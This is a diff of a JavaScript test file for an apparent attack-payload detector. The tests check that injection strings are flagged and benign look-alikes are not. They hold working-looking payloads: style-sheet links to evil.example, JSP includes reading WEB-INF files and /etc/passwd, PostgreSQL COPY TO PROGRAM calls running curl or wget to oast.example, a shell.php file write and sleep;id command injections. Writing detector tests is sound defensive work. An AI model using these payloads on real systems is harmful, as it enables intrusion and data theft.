@@ -488,34 +488,61 @@ t.test("(fifty-fifth round) a handler of one name, a JSP page's own settings; th
   t.same(q("CREATE TABLE `monitor_tag` (\n\t`id` integer PRIMARY KEY NOT NULL,\n\t`created_at` integer DEFAULT (strftime('%s', 'now')),\n\t`updated_at` integer DEFAULT (strftime('%s', 'now'))\n);\n--> statement-breakpoint\nCREATE INDEX `monitor_tag_idx` ON `monitor_tag` (`id`);"), [], "a format's '%s' in a migration")
 })
 
-t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML syntax and JSTL\'s import', async (t) => {
+t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML syntax and JSTL\'s import; the review\'s cases', async (t) => {
   for (const v of [
     '<link rel=stylesheet href=//evil.example/x.css>',
     '"><link rel="stylesheet" href="https://evil.example/steal.css">',
     '<LINK REL="stylesheet" HREF="http://xss.cx/xss.css">',
     '<link href="https://evil.example/a.css" rel="alternate stylesheet">',
     "<link rel='stylesheet' href='\\\\evil.example\\a.css'>",
-  ]) t.ok(q(v).includes('xss'), v)
+    // (review, Chromium 156: each fetched the sheet and its leak)
+    '"><link rel="a b c d stylesheet" href=//evil.example/x.css>',
+    '"><link rel="x1 stylesheet" href=//evil.example/x.css>',
+    '"><link rel="stylesheet" title=">" href=//evil.example/x.css>',
+    '"><link rel="stylesheet" data-href="//fonts.googleapis.com/css?" href=//evil.example/x.css>',
+    `"><link rel="stylesheet" data-x="${'A'.repeat(250)}" href=//evil.example/x.css>`,
+    'x"><link rel=stylesheet href=//evil.example/x.css>',
+  ]) t.ok(q(v).includes('xss'), v.slice(0, 100))
   for (const v of [
     '<link rel="stylesheet" href="/static/site.css">',
     '<link href="common.css" rel="stylesheet">',
     '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap">',
+    '<link href="https://fonts.googleapis.com/icon?family=Material+Icons" rel="stylesheet">',
+    '<link rel="stylesheet" href="https://fonts.bunny.net/css?family=figtree:400,600&display=swap">',
     '<link rel="icon" href="https://cdn.example/favicon.ico">',
-  ]) t.same(q(v), [], v)
+    // (review) a whole page, an e-mail, a document's sentence: the page's own sheet
+    '<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css"></head><body>hi</body></html>',
+    'Add `<link rel="stylesheet" href="https://unpkg.com/leaflet/dist/leaflet.css">` to your head',
+  ]) t.same(q(v), [], v.slice(0, 100))
   for (const v of [
     '<jsp:include page="/WEB-INF/web.xml"/>',
     '<jsp:forward page="/WEB-INF/web.xml"/>',
     '<jsp:directive.include file="/WEB-INF/web.xml"/>',
+    '<jsp:include page="../../../../etc/passwd"/>',
     '<jsp:expression>7*7</jsp:expression>',
-    '<jsp:declaration>int x = 1;</jsp:declaration>',
+    '"><jsp:declaration>int x = 1;</jsp:declaration>',
     '<c:import url="/WEB-INF/web.xml"/>',
+    '<c:import var=">" url="/WEB-INF/classes/db.properties"/>',
   ]) t.ok(q(v).includes('ssti'), v)
-  t.same(q('The page uses a jsp:include action for its header.'), [], 'the action named in prose')
+  // (review) a JSP page's own views, beans and imports, a document naming the actions
+  for (const v of [
+    '<%@ page contentType="text/html;charset=UTF-8" %>\n<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>\n<html><body>\n<jsp:include page="/WEB-INF/views/header.jsp"/>\n<p>${u.name}</p>\n</body></html>',
+    '<jsp:include page="/WEB-INF/views/header.jsp"/>',
+    '<c:import url="/WEB-INF/fragments/nav.jsp"/>',
+    '<c:import url="http://example.com/feed.xml" var="feed"/>',
+    'Use <jsp:useBean> to instantiate a bean.',
+    'The page uses a jsp:include action for its header.',
+  ]) t.same(q(v), [], v.slice(0, 100))
 })
 
 t.test('(fifty-sixth round, tuned on the spent fortieth part\'s misses) a statement with no blank, a program run by the database, a timing probe', async (t) => {
-  for (const v of ['SELECT-1e1FROM`test`', 'SELECT~1.FROM`test`', 'SELECT\\NFROM`test`', 'SELECT-id-1.FROM`test`']) t.ok(q(v).includes('sqli'), v)
-  for (const v of ["copy (SELECT '') to program 'nslookup c7f3k2.oast.example.net'", "COPY t FROM PROGRAM 'id'", "'; BEGIN f := UTL_FILE.FOPEN('DIR','shell.php','w'); END;--"]) t.ok(q(v).includes('sqli'), v)
-  for (const v of ['sleep 10 && echo vulnerable', 'sleep 5;id', '  sleep 3 || curl http://x.oast.example']) t.ok(q(v).includes('rce'), v)
-  for (const v of ['Press select-1 from the menu', '.select-1.from-left { color: red }', 'Copy the installer to program files and run it', "UTL_FILE.FOPEN('LOG_DIR','app.log','w')", 'sleep 8h; eat well', 'sleep 10 minutes and then try again']) t.same(q(v), [], v)
+  // (review, MariaDB 10.11: each ran, bare)
+  for (const v of ['SELECT-1e1FROM`test`', 'SELECT~1.FROM`test`', 'SELECT\\NFROM`test`', 'SELECT-id-1.FROM`test`', 'SELECT-\\NFROM`t1`', 'SELECT-1e1FROM/**/t1', 'SELECT-1e1FROM#\nt1', 'SELECT-(1)FROM`t1`', "SELECT-'1'FROM`t1`"]) t.ok(q(v).includes('sqli'), v)
+  // (review, PostgreSQL 15: each ran its program)
+  for (const v of ["copy (SELECT '') to program 'nslookup c7f3k2.oast.example.net'", "COPY t FROM PROGRAM 'id'", "COPY (SELECT 1) TO PROGRAM U&'curl http://x.oast.example'", "COPY (SELECT 1) TO PROGRAM'curl http://x.oast.example'", "COPY (SELECT 'a;b') TO PROGRAM 'wget http://x.oast.example'", "'; BEGIN f := UTL_FILE.FOPEN('DIR','shell.php','w'); END;--"]) t.ok(q(v).includes('sqli'), v)
+  for (const v of ['sleep 10 && echo vulnerable', 'sleep 5;id', '  sleep 3 || curl http://x.oast.example', 'sleep 10 & echo vulnerable', 'sleep 10\necho vulnerable']) t.ok(q(v).includes('rce'), v)
+  for (const v of ['Press select-1 from the menu', '.select-1.from-left { color: red }', 'e.select!=null&&Array.from(e.select)', 'select~.from {color:red}', 'Copy the installer to program files and run it', "COPY (SELECT * FROM audit_log) TO PROGRAM 'gzip > /archive/audit.csv.gz' CSV HEADER", "UTL_FILE.FOPEN('LOG_DIR','app.log','w')", "v_file := UTL_FILE.FOPEN('REPORT_DIR','report.pl','a');", 'sleep 8h; eat well', 'sleep 10 minutes and then try again', 'Sleep 7.5h | Type: deep | Quality: good', 'sleep 8h | id: 4471 | mood: rested']) t.same(q(v), [], v)
+  // (review) a command field's own line and a package's scripts
+  t.same(json({ scripts: { 'wait-db': 'sleep 5 && echo "db ready"' } }), [], "a package's scripts")
+  t.same(json({ command: 'sleep 30 && echo ready && exec java -jar /app/app.jar' }), [], "a command field's own line")
 })
